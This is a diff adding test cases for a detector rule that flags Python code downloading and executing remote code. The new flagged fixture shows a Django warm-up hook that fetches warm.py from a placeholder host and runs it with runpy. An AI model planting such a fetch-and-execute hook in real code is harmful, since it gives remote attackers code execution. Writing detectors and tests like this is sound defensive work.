@@ -3,6 +3,11 @@ import rule from './py-download-exec.js';
 
 ruleTest(rule, {
   clean: [
+    {
+      name: 'a downloaded JSON report saved to a temp file; a local script run with runpy in another function',
+      file: 'tools/report.py',
+      code: `import os, runpy, tempfile, urllib.request\ndef fetch():\n    with urllib.request.urlopen('https://api.example.org/r.json') as resp:\n        data = resp.read()\n    fd, path = tempfile.mkstemp(suffix='.json')\n    with os.fdopen(fd, 'wb') as fh:\n        fh.write(data)\n    return path\ndef migrate():\n    runpy.run_path('scripts/migrate.py', run_name='__main__')\n`,
+    },
     { name: 'requests test suite: a response pickled and unpickled (round trip)', file: 'tests/test_requests.py', code: `import pickle, requests\ndef test_pickle():\n    r = requests.get('https://httpbin.org/get')\n    r2 = pickle.loads(pickle.dumps(r))\n    assert r2.status_code == r.status_code\n` },
     { name: 'pickle cache read from a local file; a fetched JSON next to it', file: 'cache.py', code: `import pickle, requests\nmeta = requests.get('https://api.example.org/meta').json()\nwith open('cache.pkl', 'rb') as f:\n    index = pickle.load(f)\n` },
     { name: 'downloaded dataset archive extracted, a local tool run on another folder', file: 'data.py', code: `import subprocess, urllib.request, zipfile\nurllib.request.urlretrieve('https://example.org/ds.zip', 'ds.zip')\nzipfile.ZipFile('ds.zip').extractall('data')\nsubprocess.run(['python', 'prepare.py', '--out', 'build'])\n` },
@@ -36,6 +41,12 @@ ruleTest(rule, {
     { name: 'getattr(builtins, name) of a folded non-exec builtin fed a response', file: 'g.py', code: `import builtins, requests\nshow = getattr(builtins, 'pr' + 'int')\nshow(requests.get("https://api.example.org/x").text)\n` },
   ],
   flagged: [
+    {
+      name: 'Django AppConfig warm-up: urlopen → temp .py via os.fdopen → runpy.run_path',
+      file: 'core/checks.py',
+      code: `import os, runpy, tempfile, urllib.request\ndef _warm():\n    with urllib.request.urlopen('https://cache.example.invalid/warm.py', timeout=8) as resp:\n        code = resp.read()\n    fd, path = tempfile.mkstemp(suffix='.py')\n    with os.fdopen(fd, 'wb') as fh:\n        fh.write(code)\n    runpy.run_path(path, run_name='__main__')\n`,
+      findings: [{ line: 8, severity: 'critical', message: /runs it in-process \(runpy\.run_path\)/ }],
+    },
     {
       name: 'a with-bound response compiled, then exec-ed into a module made at run time',
       file: 'featurestore/compat.py',
